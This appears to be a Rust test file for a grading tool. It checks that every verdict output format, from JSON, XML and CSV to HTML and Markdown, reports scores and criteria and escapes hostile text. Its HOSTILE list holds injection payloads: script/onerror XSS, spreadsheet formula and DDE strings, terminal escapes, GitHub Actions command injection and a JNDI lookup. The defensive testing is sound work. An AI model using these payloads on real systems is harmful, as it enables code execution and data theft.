//! All formats of verdicts, walked: each tells what it can, and nothing that anybody wrote breaks one.

use std::collections::BTreeSet;

use base64::Engine as _;

use super::*;
use crate::exercise::{Verdict, sample as of_exercise};
use crate::report::html::tests::tags;
use crate::report::style::TextStyle;

/// What `format` writes of a verdict, or of the problems that kept a file from being graded, with base64 undone.
fn write(format: &VerdictFormat, outcome: Result<&Verdict, &[&str]>, student: &str, file: &str) -> String {
    let mut class =
        sample::class(vec![outcome.cloned().map_err(|it| it.iter().map(|it| (*it).to_owned()).collect())]);
    (class.rows[0].student, class.rows[0].file) = (student.to_owned(), file.to_owned());
    class.title = of_exercise::exercise().title;
    let exercise = of_exercise::exercise();
    let prediction = || None;
    let graded = outcome.ok().map(|verdict| Graded {
        verdict,
        exercise: &exercise,
        style: TextStyle::PLAIN,
        prediction: &prediction,
    });
    let environment = |name: &str| (name == "CLASSROOM").then(|| student.to_owned());
    let written = format.of_one(&class, graded.as_ref(), &environment);
    match format.name {
        "github-classroom" => {
            let json = base64::engine::general_purpose::STANDARD.decode(written.trim()).unwrap();
            String::from_utf8(json).unwrap() + "\n"
        }
        _ => written,
    }
}

/// The text without the escapes of its syntax, on one line.
fn read(written: &str) -> String {
    let plain =
        written.replace("&quot;", "\"").replace("\\\"", "\"").replace("\"\"", "\"").replace("\\n", " ");
    plain.replace('\\', "").split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Formats that hold no more than a score for each student.
const SCORES_ONLY: [&str; 2] = ["canvas", "nbgrader"];

#[test]
fn every_format_tells_what_was_lost_through_another_criterion_and_what_was_required() {
    let verdict = sample::gated();
    for format in FORMATS {
        let read = read(&write(&format, Ok(&verdict), "eva", "hand-ins/eva.ron"));
        let told: &[&str] = match format.name {
            "json" => {
                &["\"own_points\": 60.0", "\"needs\": \"in-time\"", "\"missed\": true", "design_rollback"]
            }
            "junit" | "gradescope" => &["needs \"in-time\"", "required to pass", "design_rollback"],
            "text" | "html" => {
                &["needs \"in-time\"", "required to pass", "Design effective rollback procedures"]
            }
            "csv" | "xapi" => &["design_rollback"],
            name if SCORES_ONLY.contains(&name) => &[],
            _ => &["needs \"in-time\"", "required to pass"],
        };
        for told in told {
            assert!(read.contains(told), "{}: {told} in\n{read}", format.name);
        }
    }
}

#[test]
fn every_format_tells_the_score_and_each_criterion() {
    let verdict = sample::verdict();
    for format in FORMATS {
        let written = write(&format, Ok(&verdict), "eva", "hand-ins/eva.ron");
        let read = read(&written);
        let told: &[&str] = match format.name {
            "csv" => &["26.67", "caught", "in-time"],
            "xapi" | "github-classroom" | "classroom50" | "otter" => {
                &["26.67", "caught", "in-time", "p90 900 users"]
            }
            name if SCORES_ONLY.contains(&name) => &["26.67", "100", "eva"],
            _ => &["26.67", "70", "caught", "in-time", "p90 900 users", "median never"],
        };
        for told in told {
            assert!(read.contains(told), "{}: {told} in\n{read}", format.name);
        }
        assert_eq!(
            written,
            write(&format, Ok(&verdict), "eva", "hand-ins/eva.ron"),
            "{}: the same bytes",
            format.name
        );
    }
}

#[test]
fn every_format_tells_that_and_why_a_file_could_not_be_graded() {
    for format in FORMATS {
        let written = read(&write(
            &format,
            Err(&["eva.ron:4:9: no field stepz", "eva.ron:5:1: no such"]),
            "eva",
            "eva.ron",
        ));
        match format.name {
            "text" => assert_eq!(written, ""),
            name if SCORES_ONLY.contains(&name) => assert!(!written.contains("26.67"), "{written}"),
            // One line of a table has room for the first reason.
            "csv" => assert!(written.contains("no field stepz"), "{written}"),
            _ => assert!(
                written.contains("no field stepz") && written.contains("no such"),
                "{}: {written}",
                format.name
            ),
        }
    }
}

/// Texts that break a page, a table, a terminal or a spreadsheet where they are not escaped.
const HOSTILE: [&str; 14] = [
    "</td></script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u{1b}]0;owned\u{7}\u{1b}[31mred\u{9b}32m",
    "=HYPERLINK(\"http://evil\",\"click\")",
    "\u{ff1d}cmd|' /C calc'!A0",
    "a;=1+1",
    "@SUM(1)\r\n=2",
    "\u{202e}nor.ecila\u{2066}x\u{200f}",
    "]]><evil/>&amp;&lt;",
    "| x | [a](http://b) ![c](d) `e` **f** @all #1 $g$",
    "\u{0}\u{1}\u{ffff}\u{fffe}\u{feff}\u{200b}\u{e0041}",
    "line one\nline two\u{2028}line three\u{85}four",
    "::error file=a::b%0A\n::set-output name=x::y",
    "'\"\"'\\\\\" -->",
    "{{7*7}}<%= 1 %>${jndi:ldap://x}",
];

#[test]
fn no_text_of_anybody_breaks_a_format() {
    for hostile in HOSTILE {
        let mut verdict = sample::gated();
        verdict.submission = format!("{hostile}.ron");
        verdict.remarks = vec![hostile.to_owned()];
        verdict.criteria[0].id = hostile.to_owned();
        for line in &mut verdict.criteria {
            line.say = hostile.to_owned();
        }
        for format in FORMATS {
            let graded = write(&format, Ok(&verdict), hostile, hostile);
            let refused = write(&format, Err(&[hostile, hostile]), hostile, hostile);
            assert!(graded.ends_with('\n'), "{}", format.name);
            for written in [graded, refused] {
                let shown = crate::report::escape::lines(&written);
                assert_eq!(shown, written, "{}: {written:?}", format.name);
                check(&format, &written, hostile);
            }
        }
    }
}

/// That the text is what its format says it is, and that nothing in it is more than text.
fn check(format: &VerdictFormat, written: &str, hostile: &str) {
    let told = format!("{} with {hostile:?}:\n{written}", format.name);
    match (format.name, format.ending) {
        ("github-classroom", _) | (_, "json") => {
            assert!(serde_json::from_str::<serde_json::Value>(written).is_ok(), "{told}");
        }
        (_, "jsonl") => {
            assert!(
                written.lines().all(|line| serde_json::from_str::<serde_json::Value>(line).is_ok()),
                "{told}"
            );
        }
        (_, "csv") => {
            let mut reader = csv::ReaderBuilder::new().from_reader(written.as_bytes());
            for record in reader.records().map(|record| record.expect("CSV")) {
                for cell in record.iter().flat_map(|cell| cell.split(';')) {
                    let start = cell.trim_start().chars().next();
                    assert!(
                        !start.is_some_and(|c| "=+-@\u{ff1d}\u{ff0b}\u{ff0d}\u{ff20}".contains(c)),
                        "{told}"
                    );
                    // Moodle shows its cells as HTML; in other gradebooks a name is only text.
                    assert!(format.name != "moodle" || !record[2].contains("<script"), "{told}");
                }
            }
        }
        (_, "html") => {
            let tags = tags(written).unwrap_or_else(|error| panic!("{error}: {told}"));
            assert!(!tags.iter().any(|tag| ["script", "img", "evil"].contains(&tag.as_str())), "{told}");
        }
        (_, "xml") => {
            let body = written.split_once("?>").map_or(written, |(_, body)| body);
            let tags: BTreeSet<&str> = body
                .split('<')
                .skip(1)
                .map(|tag| tag.trim_start_matches('/').split([' ', '>', '/']).next().unwrap_or_default())
                .collect();
            let known = [
                "testsuites",
                "testsuite",
                "testcase",
                "properties",
                "property",
                "failure",
                "error",
                "system-out",
            ];
            assert!(tags.iter().all(|tag| known.contains(tag)), "{tags:?} {told}");
        }
        (_, "md") => {
            assert!(!written.contains(['<', '@', '$']) || written.contains("\\$"), "{told}");
            let rows: BTreeSet<usize> = written
                .lines()
                .filter(|line| line.starts_with('|'))
                .map(|line| line.matches('|').count())
                .collect();
            assert!(rows.len() <= 1, "all rows of the table have the same cells: {told}");
            assert!(
                !written.contains("](http") && !written.lines().any(|line| line.starts_with("::")),
                "{told}"
            );
        }
        ("text", _) => {}
        (name, ending) => panic!("{name}.{ending}: say here how it is checked"),
    }
}

#[test]
fn names_are_different_and_every_format_says_what_it_omits() {
    let names: BTreeSet<&str> = FORMATS.iter().map(|format| format.name).collect();
    assert_eq!(names.len(), FORMATS.len());
    assert!(FORMATS.iter().all(|format| !format.about.is_empty() && !format.omits.is_empty()));
}
